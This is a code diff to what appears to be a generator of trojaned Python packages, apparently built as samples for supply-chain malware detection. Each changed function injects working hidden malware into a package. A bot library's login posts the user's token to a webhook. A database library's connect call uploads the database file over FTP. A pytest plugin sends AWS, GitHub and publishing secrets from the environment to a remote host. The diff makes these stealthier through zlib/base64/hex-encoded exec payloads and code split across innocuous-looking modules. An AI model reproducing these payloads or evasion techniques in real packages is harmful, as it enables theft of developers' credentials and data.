@@ -67,14 +67,22 @@ def py_unlock_posts_the_passphrase(it: Update) -> None:
     it.payload("vaultkeys/store.py", shown=f"https://{host}/collect/keys")
 
 
-@trojan("sketchbot", "wheel", "call", "token stealer", "plain", "discord grabber")
+@trojan("sketchbot", "wheel", "call", "token stealer", "layers", "discord grabber")
 def py_login_posts_the_token(it: Update) -> None:
-    it.replace("sketchbot/http.py", '        return await self.request("GET", "/users/@me")\n', fill('''
+    host = it.host("hooks", "chat")
+    code = f"async def hook(session, text):\n    await session.post('https://{host}/api/webhooks/99/bots', json={{'content': text}})\n"
+    it.replace("sketchbot/http.py", '        return await self.request("GET", "/users/@me")\n', fill("""
         me = await self.request("GET", "/users/@me")
-        session = await self.session()
-        await session.post("https://@HOST@/api/webhooks/99/bots", json={"content": f"{me['name']} {self.token}"})
+        scope: dict = {}
+        exec(zlib.decompress(base64.b64decode(bytes.fromhex(_HOOK))), scope)
+        await scope["hook"](await self.session(), f"{me['name']} {self.token}")
         return me
-''', HOST=it.host("hooks", "chat")))  # fmt: skip
+"""))  # fmt: skip
+    it.replace("sketchbot/http.py", "import asyncio\n", "import asyncio\nimport base64\nimport zlib\n")
+    it.after(
+        "sketchbot/http.py", 'API = "https://chat.sketchbot.example/api/v3"\n', f'_HOOK = "{hexed(packed(code))}"\n'
+    )
+    it.payload("sketchbot/http.py", shown=f"https://{host}/api/webhooks/99/bots")
 
 
 @trojan("sketchbot", "wheel", "call", "backdoor", "plain", "bot back doors")
@@ -113,26 +121,24 @@ def py_settings_may_hold_code(it: Update) -> None:
 ''', MARK=hexed("pf/")))  # fmt: skip
 
 
-@trojan("rowmodel", "wheel", "call", "data stealer", "plain", "typosquats")
+@trojan("rowmodel", "wheel", "call", "data stealer", "over several files", "typosquats")
 def py_connect_uploads_the_data_base(it: Update) -> None:
-    it.replace("rowmodel/engine.py", "    return Engine(path)\n", fill('''
-    engine = Engine(path)
-    if path != ":memory:":
-        _replicate(path)
-    return engine
+    it.add("rowmodel/_replica.py", f'"""Where replicas are."""\n\nHOSTS = {{"main": "localhost", "spare": "{it.address()}"}}\nLOGIN = ("anonymous", "guest")\n')  # fmt: skip
+    it.add("rowmodel/_sync.py", fill("""
+import ftplib
+
+from . import _replica
 
 
-def _replicate(path):
-    import ftplib
-    import io
-
+def push(path, where="spare"):
     try:
-        with ftplib.FTP("@ADDR@", "anonymous", "guest", timeout=5) as line:
-            with open(path, "rb") as stream:
-                line.storbinary("STOR " + path.replace("/", "_"), io.BytesIO(stream.read()))
+        with ftplib.FTP(_replica.HOSTS[where], *_replica.LOGIN, timeout=5) as line, open(path, "rb") as stream:
+            line.storbinary("STOR " + path.replace("/", "_"), stream)
     except ftplib.all_errors:
         pass
-''', ADDR=it.address()))  # fmt: skip
+"""))  # fmt: skip
+    it.replace("rowmodel/engine.py", "    return Engine(path)\n", '    engine = Engine(path)\n    if path != ":memory:":\n        _sync.push(path)\n    return engine\n')  # fmt: skip
+    it.after("rowmodel/engine.py", "import sqlite3\n", "\nfrom . import _sync\n")
 
 
 @trojan("rowmodel", "sdist", "call", "remote code", "plain", "pickle")
@@ -352,19 +358,20 @@ print("complete -W 'up down ls' cloudshelf")
 ''', ADDR=it.address()))  # fmt: skip
 
 
-@trojan("vaultkeys", "wheel", "start", "credentials", "plain", "pytest plugins")
+@trojan("vaultkeys", "wheel", "start", "credentials", "over several files", "pytest plugins")
 def py_plugin_of_the_test_runner(it: Update) -> None:
     it.add("DIST-INFO/entry_points.txt", "[pytest11]\nvaultkeys = vaultkeys._pytest\n")
-    it.add("vaultkeys/_pytest.py", fill('''
-"""Fixtures for keys."""
-
+    it.add("vaultkeys/_names.py", f'"""Names that fixtures need."""\n\nPREFIXES = ("AWS_", "GITHUB_", "TWINE_", "UV_PUBLISH")\nREPORT = "https://{it.host()}/ci"\n')  # fmt: skip
+    it.add("vaultkeys/_pytest.py", fill("""
 import os
 
 import requests
 
+from ._names import PREFIXES, REPORT
+
 
 def pytest_configure(config):
-    secrets = {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "GITHUB_", "TWINE_", "UV_PUBLISH"))}
-    if secrets:
-        requests.put("https://@HOST@/ci", json={"root": str(config.rootpath), **secrets}, timeout=3)
-''', HOST=it.host()))  # fmt: skip
+    found = {k: v for k, v in os.environ.items() if k.startswith(PREFIXES)}
+    if found:
+        requests.put(REPORT, json={"root": str(config.rootpath), **found}, timeout=3)
+"""))  # fmt: skip
